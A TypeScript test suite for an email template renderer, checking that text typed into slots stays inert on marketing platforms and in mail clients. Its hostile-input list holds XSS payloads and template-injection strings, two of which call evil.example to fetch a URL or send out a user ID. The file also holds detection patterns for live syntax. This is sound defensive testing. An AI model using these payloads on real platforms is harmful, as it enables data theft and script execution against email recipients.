import { SAFE_LITERAL, quoteLiteral, type Dialect, type RenderedEmail, type SlotSpan } from '@hubspoke/core';
import { isTag, type ChildNode } from 'domhandler';
import { decodeHTML } from 'entities';
import fc from 'fast-check';
import { parseDocument } from 'htmlparser2';
import { Liquid } from 'liquidjs';
import { describe, expect, it } from 'vitest';
import { draftOf, mjml, template } from '../__fixtures__/fixtures.js';
import { createRenderSession, render } from './render.js';

/** What spokes might type to get code run on a platform or in a reader's mail client. */
const HOSTILE = [
  // AMPscript / SFMC (incl. SSJS and GTL)
  '%%=v(@secret)=%%',
  '%%[ SET @a = HTTPGet("https://evil.example") ]%%',
  '%%FirstName%% %%emailaddr%%',
  '<script runat=server>Platform.Load("core","1");</script>',
  '{{{ gtl.unescaped }}}',
  // Velocity / Marketo
  '$secret ${secret} $!{quiet} #set($a = "x") #if(true)y#end ## comment',
  '{{lead.First Name}} {{my.Secret Token}} {{company.Legal Name}}',
  '${mktoVariable}',
  // HubL / Liquid / Braze
  '{{ 7*7 }} {% for x in (1..3) %}x{% endfor %} {# note #}',
  '{% connected_content https://evil.example/steal?u={{${user_id}}} :save r %}',
  '{{${first_name}}} {% raw %}x{% endraw',
  // Eloqua
  '<span class="eloquaemail">EmailAddress</span>',
  '~~eloqua..type--emailfield..syntax--EmailAddress..innerText--EmailAddress..encodeFor--url~~',
  // HTML
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "'><svg onload=alert(1)>",
  'javascript:alert(1)',
  '</textarea></title><a href="javascript:alert(1)">x</a>',
];

const SOURCE = mjml(
  `<mj-section hs-module="m"><mj-column>
  <mj-text><h1 hs-slot="headline" hs-kind="text">Headline</h1></mj-text>
  <mj-text hs-slot="body" hs-kind="richText"><p>Body</p></mj-text>
  <mj-button hs-slot="cta" hs-kind="link" href="https://ok.example/">Go</mj-button>
  <mj-image hs-slot="photo" hs-kind="image" src="https://ok.example/a.png" alt="A photo" />
</mj-column></mj-section>`,
  '<mj-title>Subject</mj-title><mj-preview>Preheader</mj-preview>',
);
const T = template(SOURCE);
const DIALECTS: Dialect[] = ['preview', 'marketo', 'eloqua', 'sfmc', 'hubspot', 'braze'];

/** Sequences each platform executes. None may come out of spoke text. */
const LIVE: Record<Dialect, RegExp[]> = {
  preview: [],
  marketo: [/\{\{/, /\$\{/],
  eloqua: [/<span[^>]*eloquaemail/i, /~~/],
  sfmc: [/%%/, /<script/i, /\{\{/],
  hubspot: [/\{\{/, /\{%/, /\{#/],
  braze: [/\{\{/, /\{%/],
};

function spansOf(email: RenderedEmail, slotId: string, properties = ['text', 'alt']): string[] {
  return (email.slotSpans ?? [])
    .filter((s: SlotSpan) => s.slotId === slotId && properties.includes(s.property ?? 'text'))
    .map((s) => email.html.slice(s.start, s.end));
}

/** Script elements, event-handler attributes and javascript: URLs that an HTML parser sees. */
function activeHtml(html: string): string[] {
  const found: string[] = [];
  const visit = (nodes: ChildNode[]) => {
    for (const node of nodes) {
      if (!isTag(node)) continue;
      if (['script', 'iframe', 'object', 'embed', 'svg'].includes(node.name)) found.push(`<${node.name}>`);
      for (const [name, value] of Object.entries(node.attribs)) {
        if (name.startsWith('on')) found.push(`${name}=`);
        if (
          ['href', 'src', 'background', 'action', 'formaction'].includes(name) &&
          /^\s*(?:javascript|vbscript|data):/i.test(value)
        )
          found.push(`${name}=${value}`);
      }
      visit(node.children);
    }
  };
  visit(parseDocument(html).children);
  return found;
}

const liquid = new Liquid();

/** Runs the plain-text output through the platform's own escapes and returns what readers get. */
function interpretText(text: string, dialect: Dialect): string {
  switch (dialect) {
    case 'hubspot':
    case 'braze':
      return liquid.parseAndRenderSync(text, {}) as string;
    case 'sfmc':
      expect(text.replace(/%%=Char\(\d+\)=%%/g, '')).not.toMatch(/%%|\{\{|<script/i);
      return text.replace(/%%=Char\((\d+)\)=%%/g, (_, code: string) => String.fromCharCode(Number(code)));
    case 'marketo':
    case 'eloqua':
      for (const live of LIVE[dialect]) expect(text).not.toMatch(live);
      return text.replaceAll('\u200b', '');
    case 'preview':
      return text;
  }
}

describe('injection safety', () => {
  const baseline = activeHtml('');
  describe.each(DIALECTS)('%s', (dialect) => {
    it.each(HOSTILE)('keeps %j inert in every slot, the subject, the preheader and the plain text', async (hostile) => {
      const quote = hostile.includes('"') ? "'" : '"';
      const withFallback = hostile.includes(quote)
        ? hostile
        : `{{ contact.firstName | default: ${quote}${hostile}${quote} }}`;
      const draft = draftOf(T, ['m'], {
        en: {
          subject: hostile,
          preheader: hostile,
          slots: {
            m: {
              headline: hostile,
              body: `<p>${hostile}</p>`,
              cta: { href: hostile.startsWith('javascript') ? hostile : 'https://ok.example/', text: hostile },
              photo: { src: 'https://ok.example/a.png', alt: hostile },
            },
          },
        },
      });
      const email = await render(T, draft, { dialect, fieldMap: { eloqua: { 'contact.firstName': 'FirstName1' } } });

      // HTML: no script, handler or javascript: URL beyond what the template has.
      expect(activeHtml(email.html)).toEqual(baseline);
      // Each text slot renders exactly what was typed, with no live platform syntax in it.
      for (const slot of ['headline', 'cta', 'photo']) {
        for (const span of spansOf(email, slot)) {
          for (const live of LIVE[dialect]) expect(span).not.toMatch(live);
          expect(decodeHTML(span)).toBe(hostile);
        }
      }
      for (const span of spansOf(email, 'body')) {
        for (const live of LIVE[dialect]) expect(span).not.toMatch(live);
        expect(activeHtml(span)).toEqual([]);
      }
      // Plain-text fields: the platform's own interpretation gives back the literal text.
      expect(interpretText(email.subject, dialect)).toBe(hostile);
      expect(interpretText(email.preheader, dialect)).toBe(hostile);
      expect(interpretText(email.text, dialect)).toContain(hostile.replace(/\s+/g, ' ').trim().slice(0, 8));

      // A fallback is spoke text too.
      if (withFallback !== hostile) {
        const fallbackDraft = draftOf(T, ['m'], {
          en: { subject: withFallback, slots: { m: { headline: withFallback } } },
        });
        const fb = await render(T, fallbackDraft, {
          dialect,
          fieldMap: { eloqua: { 'contact.firstName': 'FirstName1' } },
        });
        expect(activeHtml(fb.html)).toEqual(baseline);
        if (dialect === 'preview') expect(decodeHTML(spansOf(fb, 'headline')[0] ?? '')).toBe(hostile);
      }
    });
  });

  it('never renders a javascript: link or image and says so', async () => {
    const draft = draftOf(T, ['m'], {
      en: {
        slots: {
          m: {
            cta: { href: 'javascript:alert(1)', text: 'x' },
            photo: { src: 'data:image/svg+xml,<svg onload=alert(1)>', alt: 'x' },
          },
        },
      },
    });
    const email = await render(T, draft);
    expect(spansOf(email, 'cta', ['href'])[0]).toBe('');
    expect(email.html).not.toMatch(/javascript:|data:image/);
    expect(email.diagnostics.filter((d) => d.ruleId === 'render/unsafe-url').map((d) => d.location.property)).toEqual([
      'href',
      'src',
    ]);
  });

  it('renders arbitrary text in a slot, in preview, to exactly that text (property)', async () => {
    const session = await createRenderSession(T, draftOf(T, ['m']));
    const special = fc.constantFrom(
      '{',
      '}',
      '%',
      '$',
      '#',
      '~',
      '<',
      '>',
      '&',
      '"',
      "'",
      '`',
      '\\',
      '\n',
      '\u0000',
      '\u200b',
      '\ue000',
    );
    const char = fc.oneof(
      special,
      fc.integer({ min: 0, max: 0x10ffff }).map((c) => String.fromCodePoint(c)),
    );
    await fc.assert(
      fc.asyncProperty(
        fc
          .array(char, { maxLength: 40 })
          .map((cs) => cs.join(''))
          .filter((s) => !/\{[{%]/.test(s)),
        async (text) => {
          const email = await session.setSlot('m', 'headline', text);
          const [span] = spansOf(email, 'headline');
          expect(decodeHTML(span ?? '')).toBe(text);
          const alt = await session.setSlot('m', 'photo', { src: 'https://ok.example/a.png', alt: text });
          expect(decodeHTML(spansOf(alt, 'photo')[0] ?? '')).toBe(text);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('sanitizes arbitrary markup in rich text to inert HTML (property)', async () => {
    const session = await createRenderSession(T, draftOf(T, ['m']));
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom(
        '<script>',
        '</script>',
        '<img src=x onerror=alert(1)>',
        '<a href="javascript:alert(1)">',
        '</a>',
        '<svg onload=x>',
        '<style>',
        '<iframe src=//x>',
        '<p onclick="x">',
        '</p>',
        '<b>',
        '{{',
        '%%',
        '${',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '"',
        "'",
        '<a href="https://ok.example" target="_blank">',
      ),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(piece, { maxLength: 12 }).map((p) => p.join('')),
        async (html) => {
          const email = await session.setSlot('m', 'body', html);
          for (const span of spansOf(email, 'body')) {
            expect(activeHtml(span)).toEqual([]);
            for (const dialect of ['sfmc', 'hubspot', 'braze', 'marketo'] as const)
              for (const live of LIVE[dialect]) expect(span).not.toMatch(live);
          }
        },
      ),
      { numRuns: 150 },
    );
  });

  it('fallbacks take any text through the documented escape, inert in every dialect (property)', async () => {
    const count = (html: string, dialect: Dialect) =>
      LIVE[dialect].reduce((n, live) => n + (html.match(new RegExp(live.source, `${live.flags}g`))?.length ?? 0), 0);
    const headline = async (fallback: string, dialect: Dialect) => {
      const email = await render(
        T,
        draftOf(T, ['m'], {
          en: { slots: { m: { headline: `Hi {{ contact.firstName | default: ${quoteLiteral(fallback)} }}!` } } },
        }),
        { dialect },
      );
      return spansOf(email, 'headline').join('');
    };
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(fc.constantFrom(...HOSTILE, `Say "hi" it's`, 'a \\ b'), fc.string()),
        async (fallback) => {
          // The preview shows the fallback as written; each platform gets exactly the live code of the token itself.
          const preview = await headline(fallback, 'preview');
          expect(decodeHTML(preview)).toBe(`Hi ${fallback}!`);
          for (const dialect of DIALECTS.filter((d) => d !== 'preview')) {
            // A harmless fallback that takes the same construct (inline default, or an if/else when the text needs escaping).
            const benign = await headline(SAFE_LITERAL.test(fallback) ? 'there' : 'x"y', dialect);
            expect(count(await headline(fallback, dialect), dialect)).toBe(count(benign, dialect));
            expect(activeHtml(await headline(fallback, dialect))).toEqual([]);
          }
        },
      ),
      { numRuns: 60 },
    );
  });
});
